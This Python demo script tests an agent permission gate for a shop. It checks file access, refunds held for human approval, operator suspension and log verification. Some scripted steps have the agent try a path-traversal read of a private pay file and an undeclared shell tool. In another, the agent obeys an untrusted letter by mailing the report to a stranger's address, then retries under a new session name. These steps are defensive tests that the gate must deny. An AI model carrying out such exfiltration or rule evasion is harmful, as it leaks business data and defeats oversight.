"""What happens, step by step, and how each step is known to have happened.

Every step looks at what is really there afterwards (files, rows, mail, the log), never at the answer alone.
"""

import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from demo import records
from demo.conversation import Conversation, Event
from demo.installation import Installation
from demo.mailbox import Invitation, Mailbox
from demo.people import Person
from demo.processes import ROOT, die_with_parent
from demo.shop import COMPLAINT, REPORT, Shop

MAIL_WITHIN = 10.0  # seconds
VERIFIED_WITHIN = 60.0  # seconds
CALLS_BEFORE_STOP = 10  # so that the agent is in the midst of its work
REFUSALS_AFTER_STOP = 25
RITA, OTTO = "rita@shop.test", "otto@shop.test"
PARTNER, STRANGER = "orders@partner.test", "drop@stranger.test"
RUN = "run-1"
BIG_REFUND: dict[str, Any] = {"invoice": "INV-1002", "amount": 250}
WRONG_REFUND: dict[str, Any] = {"invoice": "INV-1003", "amount": 300}
RIGHT_REFUND: dict[str, Any] = {"invoice": "INV-1003", "amount": 180}


class Wrong(Exception):
    """A step went otherwise than it must: what was seen, and why that is wrong."""

    def __init__(self, got: str, why: str) -> None:
        super().__init__(why)
        self.got, self.why = got, why


@dataclass(frozen=True)
class Seen:
    """What a step brought, and how many seconds of it count."""

    got: str
    seconds: float


@dataclass(frozen=True)
class Step:
    """One row of the table. ``play`` raises Wrong, or whatever stood in its way."""

    who: str
    does: str
    expected: str
    play: Callable[[], Seen]


def expect(truth: bool, got: str, why: str) -> None:
    """Raises Wrong unless it is so."""
    if not truth:
        raise Wrong(got, why)


@dataclass
class Story:
    """The steps, and what they hand to each other."""

    installation: Installation
    agent: Conversation
    mailbox: Mailbox
    shop: Shop
    before_verification: Callable[[], object] = lambda: None
    approval: str = ""
    invitation: Invitation = field(default_factory=lambda: Invitation("", ""))
    rita: Person = field(default_factory=lambda: Person("Rita"))
    otto: Person = field(default_factory=lambda: Person("Otto"))
    stopped_at: float = 0.0
    stopped_by: int = 0  # the entry of Otto's step

    def steps(self) -> list[Step]:
        """The whole story, in order."""
        leak: dict[str, Any] = {"to": STRANGER, "subject": "Reports", "body": REPORT}
        read, pay = "files.read", "/private/pay.csv"
        return [
            self.call("reads /reports/q3.csv", "allow", self.was_read(REPORT), read, path="/reports/q3.csv"),
            self.call(
                "writes /reports/summary.txt", "allow", self.was_written,
                "files.write", path="/reports/summary.txt", text="215 orders",
            ),
            self.call(f"reads {pay}", "deny, no_permission", self.unread, read, path=pay),
            self.call(
                f"reads /reports/..{pay}", "deny, no_permission", self.unread,
                read, path=f"/reports/..{pay}",
            ),
            self.call("uses shell.run, never declared", "deny, unknown_tool", self.undone, "shell.run"),
            self.call(
                "refunds 40 on INV-1001", "allow", self.paid("INV-1001", 4000),
                "billing.refund", invoice="INV-1001", amount=40,
            ),
            self.call(
                "refunds 250 on INV-1002 (over 100)", "pending", self.waits("INV-1002"),
                "billing.refund", **BIG_REFUND,
            ),
            Step("Rita", "opens the link in her mail", "shown, not decided", self.rita_reads),
            Step("Rita", "types the mail's code and approves", "approved", self.rita_approves),
            Step("agent", "is told so, and refunds by itself", "allow", self.refund_goes_on),
            Step("agent", "uses the same approval again", "deny, approval_used", self.replay),
            self.call(
                "refunds 300 on INV-1003 (of 180)", "pending", self.waits("INV-1003"),
                "billing.refund", **WRONG_REFUND,
            ),
            Step("Rita", "signs in and approves 180 instead", "approved, edited", self.rita_edits),
            Step("agent", "is told so, and refunds that", "allow", self.edited_refund_goes_on),
            self.call(
                f"mails {PARTNER}", "allow", self.arrived(PARTNER),
                "mail.send", to=PARTNER, subject="Order", body="50 boxes, please.",
            ),
            self.call(
                "reads an untrusted letter", "allow", self.was_read(COMPLAINT),
                "inbox.read", message="complaint.txt",
            ),
            self.call("does as it says: mails a stranger", "deny, rule", self.unsent, "mail.send", **leak),
            self.call(
                "the same, under a new session name", "deny, rule", self.unsent,
                "mail.send", session="run-2", **leak,
            ),
            Step("Otto", "stops the agent in mid-work", "suspended", self.otto_stops),
            Step("agent", "calls on (ms since the stop)", "deny, contained", self.is_stopped),
            Step("log", "is verified: manage.py verify_log", "exit 0", self.verify),
            Step("Ada", "audits one file: python verify.py", "exit 0, INTACT", self.audit),
        ]  # fmt: skip

    def call(
        self,
        does: str,
        expected: str,
        effect: Callable[[Event], str],
        tool: str,
        *,
        session: str = RUN,
        **arguments: Any,
    ) -> Step:
        """A step in which the agent makes one call; ``effect`` looks at what came of it, and says so."""

        def play() -> Seen:
            self.agent.give(tool, arguments, session=session)
            return self.judge(self.agent.hear(), expected, effect)

        return Step("agent", does, expected, play)

    def judge(self, event: Event, expected: str, effect: Callable[[Event], str]) -> Seen:
        """Compare a call with what it must bring: the decision, its entry in the log, its effect."""
        did = f" The tool ran: {event.result}." if event.result is not None else ""
        expect(event.verdict == expected, event.verdict, f"The gate says: {event.message}{did}")
        expect(event.failure is None, f"{event.verdict}; failed", f"The tool failed: {event.failure}")
        receipt = event.receipt or {}
        recorded = records.is_recorded(event.decision, receipt["index"], receipt["leaf"])
        expect(
            recorded, f"{event.verdict}; no entry", f"The log does not hold what the receipt {receipt} says."
        )
        return Seen(f"{event.verdict}; {effect(event)}", event.milliseconds / 1000)

    def was_read(self, text: str) -> Callable[[Event], str]:
        """The agent really has the text."""

        def effect(event: Event) -> str:
            expect(event.result == text, "allow; another text", f"The agent read {event.result!r}.")
            return f"{len(text)} characters read"

        return effect

    def was_written(self, event: Event) -> str:
        """The file really is there."""
        text = self.shop.read("reports/summary.txt")
        expect(text == "215 orders", "allow; not written", f"The file holds {text!r}.")
        return "the file is there"

    def unread(self, event: Event) -> str:
        """Nothing reached the agent."""
        expect(event.result is None, f"{event.verdict}; read", f"The agent read {event.result!r}.")
        return "not read"

    def undone(self, event: Event) -> str:
        """Nothing ran."""
        expect(event.result is None, f"{event.verdict}; run", f"The agent has {event.result!r}.")
        return "not run"

    def paid(self, invoice: str, *cents: int) -> Callable[[Event], str]:
        """These refunds are in the shop's database, and no others of this invoice."""

        def effect(event: Event) -> str:
            rows = self.shop.refunds(invoice)
            expect(
                rows == list(cents), f"{event.verdict}; {len(rows)} refunds", f"The refunds are {rows} cents."
            )
            return f"paid {('never', 'once')[len(rows)]}"

        return effect

    def waits(self, invoice: str) -> Callable[[Event], str]:
        """An approval is open, and nothing was paid."""

        def effect(event: Event) -> str:
            self.approval = event.approval or ""
            status = records.approval_status(self.approval)
            expect(status == "pending", f"pending; approval {status}", "The approval is not open.")
            self.paid(invoice)(event)
            return "nothing paid yet"

        return effect

    def rita_reads(self) -> Seen:
        """The mail arrives; its link shows the call, and opening it decides nothing."""
        try:
            self.invitation = self.mailbox.invitation(RITA, MAIL_WITHIN)
        except TimeoutError as error:
            raise Wrong("no mail came", str(error)) from None
        started = time.monotonic()
        page = self.rita.open(self.invitation.link)
        seconds = time.monotonic() - started
        shown = page.status == 200 and "INV-1002" in page.text and "250" in page.text
        expect(shown, f"status {page.status}", f"The page does not show the call: {page.text[:300]}")
        status = records.approval_status(self.approval)
        expect(status == "pending", f"shown, {status}", "Opening a link has decided something.")
        return Seen("shown, still pending", seconds)

    def rita_approves(self) -> Seen:
        """Link and code together decide; a wrong code does not."""
        page = self.rita.open(self.invitation.link)
        wrong = "2222" if self.invitation.code != "2222" else "3333"
        refused = self.rita.submit(page, decision="approve", code=wrong)
        expect(
            refused.status == 403, f"status {refused.status}", f"A wrong code was not refused: {refused.text}"
        )
        started = time.monotonic()
        done = self.rita.submit(page, decision="approve", code=self.invitation.code, comment="It is owed.")
        seconds = time.monotonic() - started
        expect(done.status == 200, f"status {done.status}", f"The portal says: {done.text[:300]}")
        status = records.approval_status(self.approval)
        expect(status in ("approved", "used"), status, f"The portal says: {done.text[:300]}")
        return Seen("approved; wrong code refused", seconds)

    def refund_goes_on(self) -> Seen:
        """The agent, which waited all the while, asks again with the approval and pays."""
        return self.judge(self.agent.hear(), "allow", self.paid("INV-1002", 25_000))

    def replay(self) -> Seen:
        """An approval is good for one call."""
        self.agent.give("billing.refund", BIG_REFUND, session=RUN, approval=self.approval)
        return self.judge(self.agent.hear(), "deny, approval_used", self.still_once)

    def rita_edits(self) -> Seen:
        """Rita puts the amount right in the portal, and approves that call instead of the agent's."""
        self.rita.sign_in(records.signin_link(self.installation.url, RITA))
        path = f"/api/v1/workspaces/{records.SLUG}/approvals/{self.approval}/edit"
        started = time.monotonic()
        status, answer = self.rita.post(
            self.installation.url + path, {"arguments": RIGHT_REFUND, "comment": "The invoice is of 180."}
        )
        seconds = time.monotonic() - started
        edited = status == 200 and (answer["status"], answer["round"]) == ("approved", 2)
        expect(edited, f"status {status}", f"The portal says: {answer}")
        return Seen("approved, edited", seconds)

    def edited_refund_goes_on(self) -> Seen:
        """The agent is told the other amount, asks with it, and pays that."""
        return self.judge(self.agent.hear(), "allow", self.paid("INV-1003", 18_000))

    def still_once(self, event: Event) -> str:
        """The shop's database has the one refund and no other."""
        self.paid("INV-1002", 25_000)(event)
        return "still once"

    def arrived(self, address: str) -> Callable[[Event], str]:
        """The mail server really has the mail."""

        def effect(event: Event) -> str:
            count = len(self.mailbox.sent_to(address))
            expect(count == 1, f"{event.verdict}; {count} mails", "One mail should have arrived.")
            return "the mail arrived"

        return effect

    def unsent(self, event: Event) -> str:
        """The mail server has nothing for the stranger."""
        expect(
            not self.mailbox.sent_to(STRANGER), f"{event.verdict}; sent", "The mail has arrived all the same."
        )
        return "nothing sent"

    def otto_stops(self) -> Seen:
        """The operator signs in and suspends the agent while it calls the gate as fast as it can."""
        self.otto.sign_in(records.signin_link(self.installation.url, OTTO))
        self.agent.give("files.read", {"path": "/reports/q3.csv"}, session=RUN, refusals=REFUSALS_AFTER_STOP)
        for _ in range(CALLS_BEFORE_STOP):
            event = self.agent.hear()
            expect(event.decision == "allow", event.verdict, f"The agent should be at work: {event.message}")
        path = f"/api/v1/workspaces/{records.SLUG}/agents/{records.agent().public_id}/containment"
        started = time.monotonic()
        status, answer = self.otto.post(
            self.installation.url + path,
            {"standing": "suspended", "reason": "It follows a stranger's letter."},
        )
        self.stopped_at = time.monotonic()
        expect(
            status == 200 and answer["standing"] == "suspended",
            f"status {status}",
            f"The portal says: {answer}",
        )
        self.stopped_by = answer["entry"]
        return Seen("suspended", self.stopped_at - started)

    def is_stopped(self) -> Seen:
        """The first call that begins after the portal's answer is refused, and so is every later one."""
        events = self.agent.hear_refusals(REFUSALS_AFTER_STOP)
        first = next(number for number, event in enumerate(events) if event.decision != "allow")
        late = [event for event in events if event.asked > self.stopped_at and event.decision == "allow"]
        expect(not late, "allow after the stop", f"{len(late)} calls were allowed that began after the stop.")
        wrong = [event for event in events[first:] if event.verdict != "deny, contained"]
        expect(not wrong, *((wrong[0].verdict, wrong[0].message) if wrong else ("", "")))
        allowed = records.allowed_after(self.stopped_by)
        expect(
            not allowed, "allowed in the log", f"After the stop's entry the log has {allowed} allowed calls."
        )
        self.judge(events[first], "deny, contained", self.unread)
        after = events[first].answered - self.stopped_at  # negative when it knew before Otto's page
        return Seen(f"deny, contained; {REFUSALS_AFTER_STOP} times", after)

    def verify(self) -> Seen:
        """The log's own verification, in a process of its own."""
        self.before_verification()
        started = time.monotonic()
        command = [sys.executable, "manage.py", "verify_log"]
        try:
            result = subprocess.run(
                command, cwd=ROOT, capture_output=True, text=True, timeout=VERIFIED_WITHIN,
                preexec_fn=die_with_parent, check=False,
            )  # fmt: skip
        except subprocess.TimeoutExpired:
            raise Wrong("no answer", f"verify_log ran longer than {VERIFIED_WITHIN:.0f} s.") from None
        seconds = time.monotonic() - started
        said = "\n".join([*result.stdout.splitlines(), *result.stderr.splitlines()][-10:])
        expect(result.returncode == 0, f"exit {result.returncode}", said)
        return Seen(f"exit 0; {records.size()} entries intact", seconds)

    def audit(self) -> Seen:
        """An outsider's verification: of the bundle, by the program in it, with nothing of ours within reach."""
        with tempfile.TemporaryDirectory(prefix="countersign-auditor-") as folder:
            records.hand_to_auditor(Path(folder))
            started = time.monotonic()
            command = [
                sys.executable,
                "-I",
                "verify.py",
                "verify",
                "shop.zip",
                "--policy",
                "countersign.policy",
            ]
            result = subprocess.run(
                command, cwd=folder, env={}, capture_output=True, text=True, timeout=VERIFIED_WITHIN,
                preexec_fn=die_with_parent, check=False,
            )  # fmt: skip
            seconds = time.monotonic() - started
        said = result.stdout + result.stderr
        intact = result.returncode == 0 and "INTACT" in said
        expect(intact, f"exit {result.returncode}", said)
        return Seen("exit 0; INTACT, without us", seconds)
